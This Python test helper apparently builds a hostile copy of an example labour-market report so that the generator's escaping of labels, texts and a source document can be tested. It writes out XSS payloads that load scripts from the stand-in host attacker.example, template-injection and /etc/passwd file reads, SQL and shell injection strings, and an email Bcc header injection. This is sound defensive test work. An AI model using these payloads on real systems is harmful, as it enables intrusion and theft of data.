"""A copy of the example whose labels and texts are what an attacker would write, as far as a definition lets him."""

import csv
import shutil
from collections.abc import Mapping
from pathlib import Path

from babel.messages.pofile import read_po, write_po

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "tiltaksdeltakere"
HOST = "attacker.example"
"""Where every address leads."""
SCRIPT = f"Kvinner<script src=//{HOST}/x.js></script>"
"""The only label that the document prints too."""
LABELS: Mapping[str, str] = {
    "women": f'"><img src=http://{HOST}/x.png onerror=alert(1)>',
    "men": "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "jobseekers": "</style></title></svg><style>*{background:url(file:///etc/passwd)}</style>",
    "reduced-work-capacity": f"url(http://{HOST}/) ]]> <!-- &lt;b&gt; &#0; \\22",
    "others": "datum.value; {signal: 'alert(1)'} \\u003cscript\\u003e",
    "wage-subsidy": f"<a href='javascript:alert(1)'>file:///etc/passwd http://{HOST}</a>",
    "mentor": '\'; DROP TABLE observations; -- `id` $(id) %n%s ${x} ""',
    "follow-up": "æøåÆØÅ ŠšČčŊŋ A\u030a – ½ ‰",
    "job-creation": "W" * 200,
}
"""English labels by code."""
MESSAGES: Mapping[str, str] = {
    "title": f"Title</title><script src=//{HOST}/y.js></script>" + "{{{{ 7 * 7 }}}}",
    "subject.rise": f"Bcc: all@{HOST} =?utf-8?q?=0ABcc:_all=40{HOST}?= <script> " + "{level} {percent}",
    "source-note": f"Source: <iframe src=file:///etc/passwd></iframe> http://{HOST}",
    "about.what.text": "<svg onload=alert(1)> {{{{ config }}}} " + "long words " * 400,
}


def make_hostile(folder: Path) -> Path:
    """Copy the example to a folder, make it hostile, and return it."""
    shutil.copytree(EXAMPLE, folder)
    codes = folder / "codes.csv"
    with codes.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["code"] for row in rows} >= set(LABELS)
    for row in rows:
        row["en"] = LABELS.get(row["code"], row["en"])
        row["nb"] = row["nb"].replace("Kvinner", SCRIPT)
    with codes.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    document = folder / "sources/2013-11.txt"
    printed = document.read_text(encoding="utf-8")
    script = SCRIPT[0].lower() + SCRIPT[1:]
    document.write_text(printed.replace("Kvinner", SCRIPT).replace("kvinner", script), encoding="utf-8")
    catalogue = folder / "texts/en.po"
    with catalogue.open("rb") as file:
        messages = read_po(file)
    for key, text in MESSAGES.items():
        messages[key].string = text
    with catalogue.open("wb") as file:
        write_po(file, messages)
    definition = folder / "report.toml"
    text = definition.read_text(encoding="utf-8")
    definition.write_text(text.replace('"NAV"', '"<b onmouseover=alert(1)>NAV</b> & co"'), encoding="utf-8")
    return folder
